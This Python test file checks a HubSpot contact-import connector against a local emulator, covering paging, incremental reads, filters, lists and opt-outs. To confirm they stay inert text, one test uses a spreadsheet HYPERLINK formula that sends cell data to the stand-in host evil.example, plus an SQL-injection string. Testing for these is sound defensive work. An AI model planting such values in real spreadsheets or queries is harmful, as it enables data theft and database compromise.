"""HubSpotContactSource through the real hubspot-api-client against the loopback emulator."""

from __future__ import annotations

import random
import threading
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from connectors.hubspot import (
    HubSpotApiError,
    HubSpotConnection,
    HubSpotContactSource,
    HubSpotError,
    HubSpotFilterError,
)
from connectors.leads import FieldMapping, Lead, MappingError, Reject
from sandbox.hubspot.fixtures import HubSpotSandbox
from tests.hubspot.conftest import ConnectionFactory

BASE_MS = 1_700_000_000_000


def _at(ms: int) -> datetime:
    return datetime.fromtimestamp(ms / 1000, UTC)


def _searches(stats: dict[str, object]) -> int:
    requests = stats["requests"]
    assert isinstance(requests, dict)
    return int(requests.get("POST /crm/v3/objects/contacts/search", 0))


def test_full_read_pages_the_objects_api(
    hubspot_sandbox: HubSpotSandbox, conn: HubSpotConnection
) -> None:
    hubspot_sandbox.seed(250, bad_every=50, opted_out_every=25)
    source = HubSpotContactSource(conn)
    items = list(source.read())
    leads = [i for i in items if isinstance(i, Lead)]
    rejects = [i for i in items if isinstance(i, Reject)]
    assert len(items) == 250
    assert len(rejects) == 5
    assert all(r.reason == "missing email" and r.source_id for r in rejects)
    # Every 25th opted out, every 50th has no email (rejected): 5 opted-out leads.
    assert sum(lead.opted_out for lead in leads) == 5
    assert all(lead.first_name and lead.last_name and lead.company for lead in leads)
    assert len({i.source_id for i in items}) == 250
    assert source.last_read_api == "objects"
    requests = hubspot_sandbox.stats()["requests"]
    assert requests["GET /crm/v3/objects/contacts"] == 3  # 100 a page
    assert "POST /crm/v3/objects/contacts/search" not in requests
    stamps = [c["lastmodifieddate"] for c in hubspot_sandbox.contacts().values()]
    assert source.high_water_mark == datetime.fromisoformat(max(stamps))


def test_incremental_read_survives_the_10k_cap_with_20000_identical_timestamps(
    hubspot_sandbox: HubSpotSandbox, conn: HubSpotConnection
) -> None:
    hubspot_sandbox.seed(20_000, same_modified=20_000, modified_ms=BASE_MS)
    hubspot_sandbox.seed(1_500, modified_ms=BASE_MS, spacing_ms=7)
    # A naive read (one search paged with `after`) meets HubSpot's 400 at 10,000.
    body = {"filterGroups": [], "limit": 200, "after": "10000"}
    raw = hubspot_sandbox.http.post(
        f"{hubspot_sandbox.url}/crm/v3/objects/contacts/search",
        json=body,
        headers={"Authorization": f"Bearer {hubspot_sandbox.token}"},
        timeout=60,
    )
    assert raw.status_code == 400
    hubspot_sandbox.reset_stats()

    source = HubSpotContactSource(conn)
    items = list(source.read(since=_at(BASE_MS - 1000)))
    ids = [i.source_id for i in items]
    assert len(ids) == 21_500
    assert len(set(ids)) == 21_500
    assert all(isinstance(i, Lead) for i in items)
    stats = hubspot_sandbox.stats()
    # The minimum is 21,500 / 200 = 108 pages; the cursor costs a few more, never a loop.
    assert 108 <= _searches(stats) <= 115
    assert source.high_water_mark == _at(BASE_MS + 1_500 * 7)

    # Strictly after the bulk import's timestamp: only the 1,500 later contacts.
    later = list(HubSpotContactSource(conn).read(since=_at(BASE_MS)))
    assert len(later) == 1_500


@pytest.mark.parametrize("page_size", [100, 200])
def test_incremental_read_never_skips_or_repeats_across_tie_groups(
    hubspot_sandbox: HubSpotSandbox, conn: HubSpotConnection, page_size: int
) -> None:
    rng = random.Random(page_size)
    contacts = []
    stamp = BASE_MS
    while len(contacts) < 1_800:
        stamp += rng.choice([1, 1, 5, 60])
        for _ in range(rng.choice([1, 1, 2, 7, 99, 150, 201, 350])):
            contacts.append({"email": f"p{len(contacts)}@example.com", "lastmodifieddate": stamp})
    rng.shuffle(contacts)  # ids do not follow timestamps
    hubspot_sandbox.add_contacts(contacts)
    items = list(HubSpotContactSource(conn, page_size=page_size).read(since=_at(BASE_MS - 1)))
    emails = sorted(i.email for i in items if isinstance(i, Lead))
    assert emails == sorted(c["email"] for c in contacts)


def test_contacts_modified_after_the_read_started_wait_for_the_next_read(
    hubspot_sandbox: HubSpotSandbox, connect: ConnectionFactory
) -> None:
    start = BASE_MS
    hubspot_sandbox.seed(450, modified_ms=start, spacing_ms=1000)  # start + 1 s ... + 450 s
    source = HubSpotContactSource(connect(), clock=lambda: (start + 50_000) / 1000)
    items = list(source.read(since=_at(start - 1)))
    # The read's upper bound is its start: contacts stamped later are the next read's.
    assert len(items) == 50
    assert source.high_water_mark == _at(start + 50_000)


def test_a_mapped_property_that_does_not_exist_is_named_before_any_read(
    hubspot_sandbox: HubSpotSandbox, conn: HubSpotConnection
) -> None:
    hubspot_sandbox.seed(10)
    mapping = FieldMapping(email="email", custom_fields={"sector": "industry_vertical"})
    with pytest.raises(MappingError, match="industry_vertical"):
        HubSpotContactSource(conn, mapping=mapping).read()
    requests = hubspot_sandbox.stats()["requests"]
    assert "GET /crm/v3/objects/contacts" not in requests


def test_custom_fields_and_formula_looking_values_come_through_as_text(
    hubspot_sandbox: HubSpotSandbox, conn: HubSpotConnection
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    hubspot_sandbox.add_contacts(
        [
            {
                "email": "ada@example.com",
                "firstname": formula,
                "lastname": "@SUM(A1:A2)",
                "company": "Acme' OR '1'='1",
                "industry": "+1+1",
                "jobtitle": "-2",
            }
        ]
    )
    mapping = FieldMapping(
        email="email",
        first_name="firstname",
        last_name="lastname",
        company="company",
        custom_fields={"industry": "industry", "title": "jobtitle"},
    )
    (lead,) = list(HubSpotContactSource(conn, mapping=mapping).read())
    assert isinstance(lead, Lead)
    assert (lead.first_name, lead.last_name, lead.company) == (
        formula,
        "@SUM(A1:A2)",
        "Acme' OR '1'='1",
    )
    assert dict(lead.custom_fields) == {"industry": "+1+1", "title": "-2"}


def test_filters_travel_as_values_never_as_query_text(
    hubspot_sandbox: HubSpotSandbox, conn: HubSpotConnection
) -> None:
    hubspot_sandbox.add_contacts(
        [
            {"email": "a@example.com", "company": "Acme' OR '1'='1", "lifecyclestage": "lead"},
            {"email": "b@example.com", "company": "Acme", "lifecyclestage": "lead"},
            {"email": "c@example.com", "company": "Acme", "lifecyclestage": "customer"},
        ]
    )
    injected = HubSpotContactSource(conn, filters=[("company", "=", "Acme' OR '1'='1")])
    assert [i.email for i in injected.read()] == ["a@example.com"]
    by_stage = HubSpotContactSource(
        conn, filters=[("lifecyclestage", "in", ["lead"]), ("company", "=", "acme")]
    )
    assert [i.email for i in by_stage.read()] == ["b@example.com"]
    assert by_stage.last_read_api == "search"


@pytest.mark.parametrize(
    ("filters", "message"),
    [
        ([("lifecycle_stage", "=", "lead")], "no property 'lifecycle_stage'.*lifecyclestage"),
        ([("lifecyclestage", "LIKE", "lead")], "unknown operator"),
        ([("lifecyclestage", "=", "leads")], "not an option"),
        ([("company", "contains", "ac*")], "wildcard"),
        ([("company", "=", "a\nb")], "control characters"),
        ([("company", "in", [])], "non-empty list"),
        ([("createdate", ">", datetime(2024, 1, 1))], "time zone"),
    ],
)
def test_bad_filters_are_refused_naming_the_property(
    hubspot_sandbox: HubSpotSandbox,
    conn: HubSpotConnection,
    filters: list[tuple[str, str, object]],
    message: str,
) -> None:
    with pytest.raises(HubSpotFilterError, match=message):
        HubSpotContactSource(conn, filters=filters).read()


def test_more_filters_than_a_search_takes_are_refused(conn: HubSpotConnection) -> None:
    with pytest.raises(HubSpotFilterError, match="at most 4"):
        HubSpotContactSource(conn, filters=[("company", "=", str(i)) for i in range(5)])
    with pytest.raises(HubSpotFilterError, match="not both"):
        HubSpotContactSource(conn, filters=[("company", "=", "x")], list_id="1")


def test_a_list_narrows_the_read(hubspot_sandbox: HubSpotSandbox, conn: HubSpotConnection) -> None:
    seeded = hubspot_sandbox.seed(300, modified_ms=BASE_MS, spacing_ms=10)
    first = int(seeded["first_id"])
    members = [first + i for i in range(0, 300, 2)]
    list_id = hubspot_sandbox.control("POST", "lists", json={"name": "Q3", "ids": members})[
        "listId"
    ]
    source = HubSpotContactSource(conn, list_id=list_id)
    assert sorted(int(i.source_id or 0) for i in source.read()) == members
    since = _at(BASE_MS + 10 * 150)
    later = [
        int(i.source_id or 0) for i in HubSpotContactSource(conn, list_id=list_id).read(since=since)
    ]
    assert later == [m for m in members if m - first + 1 > 150]


def test_opt_outs_follow_the_store_settings(
    hubspot_sandbox: HubSpotSandbox, conn: HubSpotConnection
) -> None:
    hubspot_sandbox.add_contacts(
        [
            {"email": "out@example.com", "hs_email_optout": "true"},
            {"email": "nonmkt@example.com", "hs_marketable_status": "false"},
            {"email": "ok@example.com", "hs_email_optout": "false"},
        ]
    )

    def opted(source: HubSpotContactSource) -> set[str]:
        return {i.email for i in source.read() if isinstance(i, Lead) and i.opted_out}

    assert opted(HubSpotContactSource(conn)) == {"out@example.com"}
    assert opted(HubSpotContactSource(conn, non_marketing_opted_out=True)) == {
        "out@example.com",
        "nonmkt@example.com",
    }
    assert opted(HubSpotContactSource(conn, opt_out_properties=())) == set()
    with pytest.raises(MappingError, match="do_not_email"):
        HubSpotContactSource(conn, opt_out_properties=("hs_email_optout", "do_not_email")).read()


class _Replaying:
    """A connection whose searches always answer the same page (a misbehaving server)."""

    def __init__(self, page: list[dict[str, object]], props: dict[str, object]) -> None:
        self.page, self.props, self.searches = page, props, 0
        self.contacts_search = self

    def properties(self) -> dict[str, object]:
        return self.props

    def do_search_with_http_info(self) -> None:  # pragma: no cover - never called directly
        raise AssertionError

    def request(self, kind: str, call: object, *args: object, **kwargs: object) -> object:
        self.searches += 1
        assert self.searches < 50, "the read loops"
        return 200, {"results": self.page}


def test_a_search_answering_out_of_order_fails_instead_of_looping(conn: HubSpotConnection) -> None:
    def contact(cid: int, ms: int) -> dict[str, object]:
        stamp = _at(ms).isoformat().replace("+00:00", "Z")
        return {
            "id": str(cid),
            "properties": {"email": f"c{cid}@example.com", "lastmodifieddate": stamp},
        }

    page = [contact(i, BASE_MS + 1000 - i) for i in range(200)]  # descending: not as asked
    fake = _Replaying(page, conn.properties())
    with pytest.raises(HubSpotError, match="out of lastmodifieddate order"):
        list(HubSpotContactSource(fake, page_size=200).read(since=_at(BASE_MS)))  # type: ignore[arg-type]
    assert fake.searches == 1


def test_read_ahead_hands_over_records_errors_and_stops_with_the_caller() -> None:
    from connectors.hubspot.source import read_ahead

    produced: list[int] = []

    def pages(fail_at: int | None = None) -> Iterator[dict[str, int]]:
        for i in range(1_000):
            if i == fail_at:
                raise HubSpotApiError("page failed")
            produced.append(i)
            yield {"n": i}

    assert [r["n"] for r in read_ahead(pages(), batch=7)] == list(range(1_000))
    with pytest.raises(HubSpotApiError, match="page failed"):
        list(read_ahead(pages(fail_at=250), batch=100))
    produced.clear()
    reader = read_ahead(pages(), batch=10, depth=2)
    assert [next(reader)["n"] for _ in range(5)] == [0, 1, 2, 3, 4]
    reader.close()
    for worker in [t for t in threading.enumerate() if t.name == "hubspot-read-ahead"]:
        worker.join(timeout=60)
        assert not worker.is_alive()
    # The producer ran at most a few batches ahead (two queued, one being filled), then
    # stopped with the caller.
    assert len(produced) <= 10 * 4
